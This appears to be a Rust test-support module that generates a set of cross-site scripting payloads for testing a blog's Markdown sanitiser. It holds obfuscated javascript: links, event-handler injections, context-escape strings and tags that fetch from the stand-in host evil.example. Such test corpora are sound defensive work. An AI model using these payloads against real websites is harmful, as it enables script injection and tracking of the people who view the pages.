//! Texts that attack whoever looks at them: each calls `alert`, or fetches something from `evil.example`.

use std::collections::BTreeSet;

/// The ones that the renderer's own tests know, one a line.
const KNOWN: &str = include_str!("../../../../../blog-core/tests/it/markdown_xss/attacks.txt");

/// Elements that can be given the focus without anybody's doing.
const FOCUSED: &str = "a abbr article aside b bdi blockquote button caption center cite code dd del details dfn dialog div \
    dl dt em fieldset figure footer form h1 h2 h6 header i input ins kbd label legend li main mark marquee menu meter nav \
    ol output p pre progress q s samp section select small span strike strong sub summary sup table textarea time tt u \
    ul var";
const ANIMATED: &str = "a abbr b blockquote button center code dd del div dl em fieldset font form h1 h3 i img input label \
    li mark nav ol p pre q s section small span strong sub sup table u ul video";
/// What loads something, and says so when that fails or is done.
const LOADING: &[&str] = &[
    "<img src=x {}>",
    "<IMG SRC='x' {}>",
    "<img/src=\"x\"/{}>",
    "<img srcset=x {}>",
    "<picture><source srcset=x><img src=x {}></picture>",
    "<image src=x {}>",
    "<video src=x {}></video>",
    "<audio src=x {}></audio>",
    "<video><source src=x {}></video>",
    "<input type=image src=x {}>",
    "<script src=x {}></script>",
    "<object data=x {}></object>",
    "<embed src=x {}>",
    "<link rel=stylesheet href=x {}>",
    "<svg><image href=x {}></svg>",
    "<svg {}>",
    "<iframe {}></iframe>",
    "<style {}></style>",
    "<body {}>",
];
const EVENTS: &[&str] = &[
    "onerror=alert(1)",
    "onload=alert(1)",
    "OnErRoR=\"alert(1)\"",
    "onload='alert`1`'",
    "onerror\n=\nalert(1)",
    "onerror=&#97;lert(1)",
];
/// How a link says `javascript:` without writing it so.
const LINKS: &[&str] = &[
    "javascript:alert(1)",
    "JavaScript:alert(1)",
    "\u{1}javascript:alert(1)",
    "\tjavascript:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    "java&#9;script:alert(1)",
    "java&#10;script:alert(1)",
    "java&#13;script:alert(1)",
    "&#106;avascript:alert(1)",
    "&#x6a;avascript:alert(1)",
    "&#0000106avascript:alert(1)",
    "javascript&colon;alert(1)",
    "javascript&#58;alert(1)",
    "javascript:alert&lpar;1&rpar;",
    "javascript://x%0aalert(1)",
    "javascript:/*x*/alert(1)",
    "javascript:'<b>',alert(1)",
    "javascript:void(alert(1))",
    "javascript:%61lert(1)",
];
/// Ways out of where a text may be written.
const ESCAPES: &[&str] = &[
    "\">",
    "'>",
    "-->",
    "--!>",
    "]]>",
    "</title>",
    "</textarea>",
    "</style>",
    "</script>",
    "</noscript>",
    "</xmp>",
    "</template>",
    "</svg>",
    "</select>",
    "*/",
];
const CORES: &[&str] = &[
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<details open ontoggle=alert(1)>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
];
/// What fetches from elsewhere without a script.
const FOREIGN: &[&str] = &[
    "<img src=//evil.example/i>",
    "<img src=http://evil.example/i>",
    "<img src=\"\\\\evil.example/i\">",
    "<img srcset='//evil.example/i 1x, //evil.example/j 2x'>",
    "<picture><source srcset=//evil.example/i><img></picture>",
    "<image src=//evil.example/i>",
    "<input type=image src=//evil.example/i>",
    "<video poster=//evil.example/i></video>",
    "<video src=//evil.example/v autoplay></video>",
    "<audio src=//evil.example/a autoplay></audio>",
    "<video><source src=//evil.example/v></video>",
    "<video src=x><track default kind=captions src=//evil.example/t></video>",
    "<iframe src=//evil.example/f></iframe>",
    "<embed src=//evil.example/e>",
    "<object data=//evil.example/o></object>",
    "<link rel=stylesheet href=//evil.example/s>",
    "<link rel=icon href=//evil.example/i>",
    "<link rel=preload as=image href=//evil.example/i>",
    "<link rel=modulepreload href=//evil.example/m>",
    "<link rel=manifest href=//evil.example/m>",
    "<script src=//evil.example/s></script>",
    "<script type=module src=//evil.example/s></script>",
    "<body background=//evil.example/b>",
    "<table background=//evil.example/b><tr><td>x</table>",
    "<table><td background=//evil.example/b>x</table>",
    "<style>@import '//evil.example/s';</style>",
    "<style>body{background:url(//evil.example/b)}</style>",
    "<style>@font-face{font-family:x;src:url(//evil.example/f)}body{font-family:x}</style>",
    "<style>body::before{content:url(//evil.example/c)}</style>",
    "<p style='background:url(//evil.example/b)'>x</p>",
    "<p style='list-style:url(//evil.example/b);display:list-item'>x</p>",
    "<p style='border-image:url(//evil.example/b);border:1px solid'>x</p>",
    "<p style='mask:url(//evil.example/b)'>x</p>",
    "<svg><image href=//evil.example/i /></svg>",
    "<svg><image xlink:href=//evil.example/i /></svg>",
    "<svg><style>@import '//evil.example/s';</style></svg>",
    "<svg><filter id=f><feImage href=//evil.example/i /></filter><rect width=9 height=9 filter='url(#f)'/></svg>",
    "<base href=//evil.example/><img src=i>",
    "![x](//evil.example/i)",
    "![x](http://evil.example/i \"t\")",
    "![x][r]\n\n[r]: //evil.example/i",
    "[![x](//evil.example/i)](/)",
];

/// All of them, each once.
pub(super) fn all() -> Vec<String> {
    let mut all = BTreeSet::new();
    for line in KNOWN.lines().filter(|line| !line.is_empty()) {
        let line = line.replace("\\n", "\n").replace("\\t", "\t");
        all.insert(line.replace("\\0", "\0"));
    }
    for element in FOCUSED.split_whitespace() {
        all.insert(format!(
            "<{element} tabindex=0 autofocus onfocus=alert(1)>x</{element}>"
        ));
    }
    for element in ANIMATED.split_whitespace() {
        all.insert(format!(
            "<style>@keyframes k{{}}</style><{element} style='animation:k 1ms' onanimationend=alert(1)>x</{element}>"
        ));
    }
    for (element, event) in LOADING
        .iter()
        .flat_map(|e| EVENTS.iter().map(move |v| (e, v)))
    {
        all.insert(element.replace("{}", event));
    }
    for link in LINKS {
        all.insert(format!("<a href=\"{link}\">x</a>"));
        all.insert(format!("<form action=\"{link}\"><button>x</button></form>"));
    }
    for (escape, core) in ESCAPES
        .iter()
        .flat_map(|e| CORES.iter().map(move |c| (e, c)))
    {
        all.insert(format!("{escape}{core}"));
    }
    all.extend(FOREIGN.iter().map(|text| (*text).to_owned()));
    all.into_iter().collect()
}
